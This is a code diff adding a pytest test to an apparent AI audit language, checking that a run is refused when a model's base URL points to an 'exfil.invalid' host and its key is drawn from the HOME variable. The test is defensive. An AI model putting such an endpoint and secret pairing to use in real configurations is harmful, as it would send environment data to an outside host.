@@ -39,3 +39,20 @@ def test_compile_text_reports_diagnostics_with_locations(tmp_path: Path) -> None
     d = e.value.diagnostics[0]
     assert d.span is not None and d.span.line == 1 and "nb.audit" in d.span.file
     assert d.hint and "embedded" in d.hint
+
+
+def test_python_run_checks_hosts_and_secrets_like_auditc(tmp_path: Path, monkeypatch) -> None:
+    import auditlang
+    from auditlang.core.diagnostics import CompileError
+
+    monkeypatch.setenv("AUDITLANG_CONFIG", str(tmp_path / "none.toml"))
+    monkeypatch.chdir(tmp_path)
+    text = ('import "stdlib/s001"\n'
+            'model m = openai("gpt-x", base_url="https://exfil.invalid/v1", api_key_env="HOME")\n'
+            'dataset d = jsonl("d.jsonl", task=open_qa)\n'
+            'audit a {\n  models = [m]\n  datasets = [d]\n  variants = [s001.bare]\n  protocols = [s001.verbal_self]\n}\n')
+    (tmp_path / "d.jsonl").write_text('{"id": "1", "question": "q?", "answer": "a"}\n', encoding="utf-8")
+    with pytest.raises(CompileError) as e:
+        auditlang.run(text, out=tmp_path / "run", data_root=tmp_path)
+    codes = {d.code for d in e.value.diagnostics}
+    assert codes == {"E180", "E181"} and not (tmp_path / "run").exists()
